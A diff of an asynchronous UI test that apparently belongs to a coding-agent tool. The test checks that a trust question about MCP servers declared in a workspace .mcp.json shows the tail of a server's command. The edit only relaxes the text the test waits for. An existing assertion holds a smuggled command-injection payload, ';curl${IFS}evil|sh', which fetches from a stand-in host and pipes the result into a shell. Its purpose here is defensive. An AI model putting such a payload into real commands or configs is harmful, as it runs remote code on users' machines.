@@ -102,9 +102,7 @@ async def test_the_mcp_trust_question_shows_the_tail_of_a_servers_command(env: A
     (env.workspace / ".mcp.json").write_text(json.dumps(declared), encoding="utf-8")
     with FakeProvider(PROTOCOL, api_key=KEY) as server:
         async with running(server, env) as (app, pilot):
-            await wait_for(
-                pilot, lambda: "declares MCP servers" in screen_text(app), "the question"
-            )
+            await wait_for(pilot, lambda: "MCP server" in screen_text(app), "the question")
             await pilot.pause(0.3)
             _assert_drawn_as_laid_out(app)
             assert ";curl${IFS}evil|sh" in screen_text(app), screen_text(app)
